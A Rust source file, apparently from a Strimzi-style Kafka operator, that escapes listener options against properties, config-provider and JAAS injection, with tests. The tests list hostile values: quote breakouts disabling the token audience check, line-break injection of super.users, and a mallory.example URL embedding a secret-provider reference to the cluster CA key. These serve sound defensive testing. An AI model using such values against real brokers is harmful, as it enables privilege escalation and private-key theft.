//! Escapes text from a spec for the files that brokers read, so that it can't become configuration.
//!
//! Strimzi copies a listener's options into a Java properties file unchanged. They are then parsed three
//! times:
//!
//! 1. As properties: a line break ends the option, and a backslash escapes.
//! 2. By Kafka, which replaces every `${provider:path:key}`; one of Strimzi's providers reads the cluster's
//!    Secrets.
//! 3. As JAAS for the options of a login module: a quotation mark ends a value.
//!
//! A value that escaped any of the three could set `super.users`, send a private key to an attacker's address
//! or turn off the audience check of tokens.

use std::fmt::Write;

pub type JaasOption = (&'static str, String);

/// A login module with its options, as the value of `sasl.jaas.config`, on one line.
pub fn login_module(class: &str, options: &[JaasOption]) -> String {
    let mut line = format!("{class} required");
    for (name, value) in options {
        // Writing to a String can't fail.
        let _ = write!(line, " {name}=\"{}\"", quoted(value));
    }
    line + ";"
}

/// Escapes a value for use between quotation marks. Every character that any of the three parsers could
/// interpret becomes an octal escape, which only the last one resolves. Characters without an octal escape
/// become a properties escape, whose result means nothing to the other two.
fn quoted(value: &str) -> String {
    let mut text = String::with_capacity(value.len());
    for character in value.chars() {
        // Writing to a String can't fail.
        let _ = match u32::from(character) {
            _ if character.is_ascii_alphanumeric() || " -._~:/?#[]@!$&'()*+,;=%^|<>".contains(character) => {
                write!(text, "{character}")
            }
            // The backslash is doubled for the properties.
            code @ 0..=0xff => write!(text, "\\\\{code:03o}"),
            _ => {
                character.encode_utf16(&mut [0; 2]).iter().try_for_each(|unit| write!(text, "\\u{unit:04x}"))
            }
        };
    }
    text
}

/// Sanitizes an address or a name for an option that isn't parsed as JAAS: removes all characters that the
/// properties parser or the providers could interpret. No valid address, region or bucket has any of them.
pub fn strip_unsafe_characters(value: &str) -> String {
    value.chars().filter(|c| c.is_ascii_graphic() && !"\\{}\"".contains(*c)).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use proptest::prelude::*;

    use super::*;

    /// Parses a line as java.util.Properties does; `None` if the line ends early.
    fn read_properties(line: &str) -> Option<String> {
        let mut units = Vec::new();
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                '\n' | '\r' => return None,
                '\\' => match chars.next()? {
                    'u' => {
                        let digits: String = chars.by_ref().take(4).collect();
                        units.push(u16::from_str_radix(&digits, 16).ok()?);
                    }
                    'n' => units.push(u16::from(b'\n')),
                    'r' => units.push(u16::from(b'\r')),
                    't' => units.push(u16::from(b'\t')),
                    other => units.extend(other.encode_utf16(&mut [0; 2]).iter()),
                },
                // The file is read as Latin-1.
                c if u32::from(c) > 0xff => return None,
                c => units.push(u32::from(c) as u16),
            }
        }
        String::from_utf16(&units).ok()
    }

    /// Parses options as Kafka's JaasConfig does with a java.io.StreamTokenizer.
    fn read_jaas(text: &str) -> Option<BTreeMap<String, String>> {
        let mut rest = text.strip_prefix("Module required")?;
        let mut options = BTreeMap::new();
        while rest != ";" {
            let (name, after) = rest.strip_prefix(' ')?.split_once("=\"")?;
            let mut value = String::new();
            let mut chars = after.chars();
            loop {
                match chars.next()? {
                    '"' => break,
                    '\n' | '\r' => return None,
                    '\\' => {
                        let digits: String = chars.by_ref().take(3).collect();
                        value.push(char::from(u8::from_str_radix(&digits, 8).ok()?));
                    }
                    c => value.push(c),
                }
            }
            options.insert(name.to_owned(), value);
            rest = chars.as_str();
        }
        Some(options)
    }

    fn check(values: [&str; 2]) {
        let options = [("a", values[0].to_owned()), ("b", values[1].to_owned())];
        let written = login_module("Module", &options);
        let property = read_properties(&written).expect("one line of properties");
        assert!(!property.contains("${"), "a provider would replace part of {property:?}");
        let expected = options.map(|(name, value)| (name.to_owned(), value)).into();
        assert_eq!(read_jaas(&property), Some(expected), "{written}");
    }

    #[test]
    fn ordinary_values_stay_readable() {
        let options = [
            ("oauth.valid.issuer.uri", "https://idp.example.com/realms/a?b=c".to_owned()),
            ("oauth.groups.claim", "$.groups".to_owned()),
        ];
        assert_eq!(
            login_module("Module", &options),
            r#"Module required oauth.valid.issuer.uri="https://idp.example.com/realms/a?b=c" oauth.groups.claim="$.groups";"#
        );
    }

    #[test]
    fn hostile_values_stay_values() {
        for hostile in [
            "x\" oauth.check.audience=\"false",
            "x\\\" oauth.check.audience=\\\"false",
            "x\nsuper.users=User:mallory",
            "x\r\nsuper.users=User:mallory",
            "https://mallory.example/${strimzisecrets:ns/c-cluster-ca:ca.key}",
            "$\\{a:b}",
            "\\",
            "\\\\\"",
            "\\u0022",
            "\\042",
            "a;b;",
            "a // b /* c */ # d ! e",
            "é\u{85}\u{2028}\u{feff}😀\0",
            "",
        ] {
            check([hostile, "x"]);
            check(["x", hostile]);
        }
    }

    #[test]
    fn plain_values_have_nothing_that_means_something() {
        assert_eq!(
            strip_unsafe_characters("https://s3.example.com:9000/a%20b"),
            "https://s3.example.com:9000/a%20b"
        );
        assert_eq!(
            strip_unsafe_characters("eu\nsuper.users=x ${strimzisecrets:a:b}\\"),
            "eusuper.users=x$strimzisecrets:a:b"
        );
    }

    proptest! {
        #[test]
        fn no_value_breaks_out(a in any::<String>(), b in "[\\\\\"\n\r${}:; =a0u-]{0,12}") {
            check([&a, &b]);
        }
    }
}
